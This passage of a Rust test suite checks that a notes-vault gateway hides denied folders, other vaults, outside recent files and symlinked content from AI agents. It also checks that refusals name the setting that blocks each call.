}

// D13. Lists.

/// Only the boat's folder is open.
const BOAT_ONLY: &str = "[paths]\nread = [\"Projects/**\"]\ndeny = [\"Projects/Garden/**\"]";

/// Nothing of the envelope tells of what is closed.
#[track_caller]
fn assert_silent(envelope: &Envelope) {
    let whole = envelope.to_json();
    for hidden in ["Garden", "Reading/", "Home.md", "Daily", "People"] {
        assert!(!whole.contains(hidden), "`{hidden}` in {whole}");
    }
}

#[test]
fn d13_lists_lose_what_is_closed_from_both_backends() {
    let world = world().with_tables(BOAT_ONLY);
    let answers = both(&world).map(|(_, gateway)| {
        let files = answer(&gateway, "files");
        assert_silent(&files);
        let open = "Projects/Boat/Boat.md\nProjects/Boat/Launch.canvas\nProjects/Boat/Log.md\n";
        assert_eq!(files.stdout, open);
        let data = files.data.as_map();
        assert_eq!((&data["total"], &data["returned"]), (&json!(3), &json!(3)));
        assert!(files.warnings.is_empty(), "{files:#?}");

        let total = answer(&gateway, "files total");
        assert_eq!(total.stdout, "3\n");
        assert_eq!(json!(total.data), json!({"total": 3}));

        let folders = answer(&gateway, "folders");
        assert_silent(&folders);
        assert!(folders.stdout.contains("Projects/Boat\n"), "{folders:#?}");
        (files.data, total.data, folders.data)
    });
    assert_eq!(answers[0], answers[1]);
    refused(&world, "PATH_DENIED", "files folder=Projects/Garden");
}

/// What the app prints is about the whole vault, so it is not asked.
#[test]
fn d13_the_app_is_not_asked_what_it_cannot_limit() {
    let world = wide_open().with_tables(BOAT_ONLY);
    let gateway = world.gateway_with(through(BackendChoice::Obsidian));
    let links = "Projects/Boat/Launch.canvas\nProjects/Boat/Log.md\n";
    // What an open note writes is its own text, also where the path in it is a closed one.
    let unresolved = "../Garden/Log\t1\nAna Reyes\t3\nPaint shop\t1\n";
    for (line, printed) in [
        ("backlinks path=Projects/Boat/Boat.md", links),
        ("backlinks path=Projects/Boat/Boat.md total", ""),
        ("files total", "3\n"),
        ("search query=Reyes limit=1", ""),
        ("tag name=boat verbose", ""),
        ("vault info=files", "3\n"),
        ("recents", ""),
        ("bookmarks", ""),
        ("unresolved counts", unresolved),
    ] {
        let envelope = answer(&gateway, line);
        if printed != unresolved {
            assert_silent(&envelope);
        }
        assert_eq!(envelope.meta.backend, Answerer::Embedded, "{envelope:#?}");
        let is_right = printed.is_empty() || envelope.stdout == printed;
        assert!(is_right, "{envelope:#?}");
    }
    assert!(world.nothing_spawned());
}

#[test]
fn d13_what_shows_other_notes_than_the_one_it_names_is_refused() {
    let world = wide_open().with_tables(BOAT_ONLY);
    refused(&world, "PATH_DENIED", "random; random folder=Projects/Boat");
    assert!(world.nothing_spawned());
}

#[test]
fn d13_what_only_the_app_can_answer_about_the_vault_is_refused() {
    let world = wide_open().with_tables(BOAT_ONLY);
    let gateway = world.gateway();
    let mut refused = Vec::new();
    for command in catalogue().commands() {
        let request = least(command);
        let call = admitted(command, &request);
        let about_many = matches!(call.acts_on(), Target::Vault | Target::App | Target::Folder);
        let opaque = matches!(
            command.output,
            Shape::Raw | Shape::Tabs | Shape::Workspaces | Shape::History
        );
        if !(about_many && opaque) || vault_gw::backend::embedded::serves(&command.id) {
            continue;
        }
        let envelope = checked(gateway.call(&request));
        let refusals = ["PATH_DENIED", "APPROVAL_REQUIRED"];
        assert_one_of(&envelope, refusals, &command.id);
        refused.push(command.id.as_str());
    }
    for known in ["tabs", "sync:deleted", "history:list", "hotkeys"] {
        assert!(refused.contains(&known), "{known} of {refused:?}");
    }
    assert!(world.nothing_spawned());
}

#[test]
fn d13_limits_on_writing_alone_filter_no_list() {
    let world = world().with_tables("[paths]\nwrite = [\"Inbox/**\"]");
    let envelope = world.ask("files");
    assert!(envelope.stdout.contains("Home.md"));
    assert!(envelope.warnings.is_empty(), "{envelope:#?}");
}

#[test]
fn d13_nothing_is_reported_what_is_wrong_with_closed_notes() {
    let open = world().set("allow_mutations = true");
    let broken = "---\na: [\n---\n";
    open.write("Secret/hidden.md", broken);
    open.write("Inbox/open.md", broken);
    let shown = |world: &World, asked: &Request| {
        let gateway = world.gateway_with(through(BackendChoice::Embedded));
        checked(gateway.call(asked)).to_json()
    };
    let calls = [
        asked("orphans"),
        asked("backlinks path=Home.md"),
        dry_run_of(asked("rename path=Home.md name=House")),
    ];
    for asked in &calls {
        let all = shown(&open, asked);
        assert!(all.contains("Secret/hidden.md"), "{all}");
    }
    let closed = open.with_tables("[paths]\ndeny = [\"Secret/**\"]");
    for asked in &calls {
        let rest = shown(&closed, asked);
        assert!(!rest.contains("Secret"), "{rest}");
        assert!(rest.contains("Inbox/open.md"), "{rest}");
    }
}

#[test]
fn agents_do_not_learn_where_other_vaults_are() {
    let world = world();
    let other = world.scratch().join("Diary");
    fs_err::create_dir_all(&other).unwrap();
    let vaults = [world.vault.as_path(), other.as_path()];
    world.home.register(vaults).unwrap();
    let there = other.display().to_string();
    let here = world.vault.display().to_string();
    for backend in BACKENDS {
        let ask = |caller| {
            let options = Options {
                backend: Some(backend),
                ..Options::new(caller)
            };
            answer(&world.gateway_with(options), "vaults verbose")
        };
        let agent = ask(Caller::Agent).succeeds();
        assert!(!agent.to_json().contains(&there), "{agent:#?}");
        for shown in [here.as_str(), "Diary"] {
            assert!(agent.stdout.contains(shown), "{shown}: {agent:#?}");
        }
        assert!(ask(Caller::Person).stdout.contains(&there));
    }
}

#[test]
fn agents_do_not_learn_of_recent_files_outside_the_vault() {
    let named = "Home.md\n/home/me/taxes.md\nC:\\me\\taxes.md\n../taxes.md\n.obsidian/app.json\nInbox/gone.md\n";
    let recents = Action::Write {
        stream: Stream::Stdout,
        bytes: named.as_bytes().to_vec().into(),
    };
    let world = World::with_fixture_vault()
        .with_fake(&fake().always("recents", [recents, Action::Exit { code: 0 }]));
    let ask = |caller| {
        let options = Options {
            backend: Some(BackendChoice::Obsidian),
            ..Options::new(caller)
        };
        answer(&world.gateway_with(options), "recents")
    };
    let agent = ask(Caller::Agent).succeeds();
    assert_eq!(agent.stdout, "Home.md\n");
    assert_eq!(agent.data.as_map()["items"], json!([{"path": "Home.md"}]));
    // A person sees what the app says.
    assert!(ask(Caller::Person).stdout.contains("/home/me/taxes.md"));
}

#[test]
fn what_an_agent_may_not_see_is_not_shown_because_it_is_garbled() {
    let garbled = Action::Write {
        stream: Stream::Stdout,
        bytes: b"Diary /home/me/Diary\n\tx\t\t\n".to_vec().into(),
    };
    let world = World::with_fixture_vault()
        .with_fake(&fake().always("vaults", [garbled, Action::Exit { code: 0 }]));
    let gateway = world.gateway_with(through(BackendChoice::Obsidian));
    let envelope = answer(&gateway, "vaults verbose");
    assert!(!envelope.to_json().contains("/home/me"), "{envelope:#?}");
}

#[test]
fn effects_stand_in_the_envelope_of_a_refusal() {
    let envelope = world().ask("create path=a.md overwrite");
    assert_eq!(envelope.meta.effects, [Effect::Write, Effect::Destroy]);
    assert_eq!(envelope.meta.tier, Some(Tier::V1));
}

#[test]
fn d13_a_filtered_list_that_was_cut_still_says_so() {
    let world = World::with_fixture_vault()
        .with_tables(BOAT_ONLY)
        .set("max_output_bytes = 600");
    for number in 0..40 {
        world.write(&format!("Projects/Boat/{number}.md"), "");
    }
    let envelope = world.ask("files");
    assert_eq!(envelope.status, Status::Partial, "{envelope:#?}");
    assert!(envelope.meta.truncated.is_some());
    assert_silent(&envelope);
}

#[test]
fn d13_no_number_is_reported_that_would_count_what_is_closed() {
    let world = world().with_tables("[paths]\ndeny = [\"Closed/**\"]");
    world.write("Open.md", "#seed\n");
    world.write("Closed/Other.md", "#seed #seed\n");
    for (_, gateway) in both(&world) {
        let envelope = answer(&gateway, "tag name=seed verbose");
        assert_eq!(envelope.data.as_map()["files"]["total"], 1, "{envelope:#?}");
        assert_eq!(envelope.data.as_map()["count"], 1, "{envelope:#?}");
        assert_eq!(envelope.stdout, "#seed\t1\nOpen.md\n");
        // A cut list counts the open ones alone.
        let files = Request {
            budget: Some(40),
            ..asked("files")
        };
        let envelope = checked(gateway.call(&files));
        assert_eq!(envelope.data.as_map()["truncated"], true, "{envelope:#?}");
        let open = world.ask("files total").data.as_map()["total"].clone();
        assert_eq!(envelope.data.as_map()["total"], open, "{envelope:#?}");
    }
}

#[test]
fn d13_a_random_note_is_drawn_among_those_that_are_open() {
    let world = World::empty().with_tables("[paths]\ndeny = [\"Closed/**\"]");
    for number in 0..40 {
        world.write(&format!("Closed/{number}.md"), "closed");
    }
    let none = world.ask("random:read").succeeds();
    assert_eq!(none.data.as_map()["total"], 0, "{none:#?}");
    world.write("Open.md", "open");
    for _ in 0..20 {
        let envelope = world.ask("random:read");
        assert_eq!(envelope.data.as_map()["path"], "Open.md", "{envelope:#?}");
    }
}

/// Rules judge every name that the disk holds.
#[cfg(target_os = "linux")]
#[test]
fn d13_rules_judge_names_of_other_systems_too() {
    for (tables, plan, date) in [
        ("", true, true),
        ("[paths]\nread = [\"open/a*\"]", false, false),
        ("[paths]\ndeny = [\"secret*\"]", false, true),
        ("[paths]\ndeny = [\"**/secret: *\"]", false, false),
    ] {
        let world = World::empty().with_tables(tables);
        world.write("open/a.md", "");
        world.write("secret: plan.md", "");
        world.write("open/secret: date.md", "");
        let envelope = world.ask("files").succeeds();
        let text = envelope.to_json();
        let shown = ["secret: plan", "secret: date"].map(|name| text.contains(name));
        assert_eq!(shown, [plan, date], "{tables}");
    }
}

#[test]
fn a05_a_refusal_names_what_is_off_and_nothing_else() {
    let world = world().set("allow_mutations = true\nallow_ui = false");
    let refused = world.ask("daily:append content=x open");
    let message = refused.error.unwrap().to_string();
    assert!(message.contains("what the app shows"), "{message}");
    assert!(!message.contains("change the vault"), "{message}");
}

/// Opening another switch than the one that closes it opens nothing.
#[test]
fn a05_the_advice_names_the_switch_that_is_off() {
    const APPEND: &str = "daily:append content=x";
    const SCOUT: &str = "[agents.scout]\nallow_mutations = false";
    let world = world()
        .with_tables(SCOUT)
        .set("allow_mutations = true\nallow_ui = false\ntier = \"v2\"");
    for (line, shown) in [
        ("open path=Home.md", "`allow_ui = true`"),
        ("template:insert name=Meeting", "`allow_active_file = true`"),
        ("publish:add path=Home.md", "`allow_publish = true`"),
        ("vaults", "`tier = v3`"),
    ] {
        let envelope = world.ask(line);
        assert_eq!(envelope.advice.len(), 1, "{envelope:#?}");
        let wanted =
            format!("The owner of the vault can allow the call with {shown} in the settings.");
        assert_eq!(envelope.advice[0].message.text(), wanted, "{line}");
    }
    let closed = World::with_fixture_vault().ask(APPEND);
    let shown = "`allow_mutations = true` in the settings.";
    assert!(
        closed.advice[0].message.text().ends_with(shown),
        "{closed:#?}"
    );
    let advice = |world: &World, options, line| {
        let envelope = world.gateway_with(options).call(&asked(line));
        envelope.advice[0].message.text()
    };
    let shown = advice(&world, in_tier(Tier::V0, false), "files");
    assert!(
        shown.starts_with("`--tier` does not allow this call."),
        "{shown}"
    );
    // The option is not what closes it.
    let shown = advice(&world, in_tier(Tier::V3, false), "vaults");
    assert!(shown.contains("settings set tier v3"), "{shown}");
    let shown = advice(&world, acting(Caller::Person, "scout"), APPEND);
    let own = "`vault-gw settings set agents.scout.allow_mutations true`";
    let wanted = format!("The owner of the vault can allow the call with {own}.");
    assert_eq!(shown, wanted);
    // What both close needs both.
    let world = World::with_fixture_vault()
        .set("enabled = true")
        .with_tables(SCOUT);
    let shown = advice(&world, acting(Caller::Agent, "scout"), APPEND);
    let both = "`allow_mutations = true` and `agents.scout.allow_mutations = true`";
    let wanted = format!("The owner of the vault can allow the call with {both} in the settings.");
    assert_eq!(shown, wanted);
}

/// Questions about many files, and whether an answer leads to the notes behind `link`.
#[cfg(unix)]
const LISTS: [&str; 3] = ["search:context query=secret", "files", "tags"];

#[cfg(unix)]
fn leads_out(envelope: &Envelope) -> bool {
    let text = envelope.to_json();
    text.contains("link/x.md") || text.contains("#outside")
}

#[cfg(unix)]
fn outside() -> tempfile::TempDir {
    let outside = tempfile::tempdir().unwrap();
    fs_err::write(outside.path().join("x.md"), "secret text #outside\n").unwrap();
    outside
}

/// The app follows symlinks. What it would answer to a question about many files is the engine's then.
#[cfg(unix)]
#[test]
fn d03_no_list_of_the_app_leads_out_of_the_vault() {
    let outside = outside();
    for follows in [false, true] {
        let world = World::empty()
            .with_fake(&Scenario::logged())
            .set("backend = \"obsidian\"")
            .set(&format!("follow_symlinks = {follows}"));
        world.write("A.md", "a\n");
        std::os::unix::fs::symlink(outside.path(), world.vault.join("link")).unwrap();
        let gateway = world.gateway();
        for line in LISTS {
            let envelope = answer(&gateway, line);
            let by_app = envelope.meta.backend == Answerer::Obsidian;
            assert_eq!(by_app, follows, "{line}: {envelope:#?}");
            assert!(follows || !leads_out(&envelope), "{line}: {envelope:#?}");
        }
    }
}

/// The names that a running server keeps are as new as the question.
#[cfg(unix)]
#[test]
fn d03_a_symlink_that_comes_while_a_server_runs_leads_no_list_out_of_the_vault() {
    let outside = outside();
    let mut world = World::empty().with_fake(&Scenario::logged());
    world.write("A.md", "a\n");
    let link = world.vault.join("link");
    let servers = [BackendChoice::Auto, BackendChoice::Obsidian].map(|backend| {
        let followed = std::sync::Arc::new(vault_engine::Followed::new());
        let gateway = world.gateway_with(through(backend)).with_followed(followed);
        move || {
            LISTS.map(|line| {
                let envelope = answer(&gateway, line);
                assert!(!leads_out(&envelope), "{backend:?} {line}: {envelope:#?}");
                (envelope.meta.backend, code(&envelope))
            })
        }
    });
    for server in &servers {
        assert!(server().iter().all(|(by, _)| *by == Answerer::Obsidian));
        std::os::unix::fs::symlink(outside.path(), &link).unwrap();
        assert!(server().iter().all(|(by, _)| *by == Answerer::Embedded));
        fs_err::remove_file(&link).unwrap();
        assert!(server().iter().all(|(by, _)| *by == Answerer::Obsidian));
    }
    // Whether the app runs does not matter for that.
    world.app = None;
    std::os::unix::fs::symlink(outside.path(), &link).unwrap();
    for server in &servers {
        assert!(server().iter().all(|(by, _)| *by == Answerer::Embedded));
    }
    fs_err::remove_file(&link).unwrap();
    let [auto, app] = servers.map(|server| server());
    assert!(auto.iter().all(|(by, _)| *by == Answerer::Embedded));
    assert!(app.iter().all(|(_, code)| *code == "APP_NOT_RUNNING"));
}
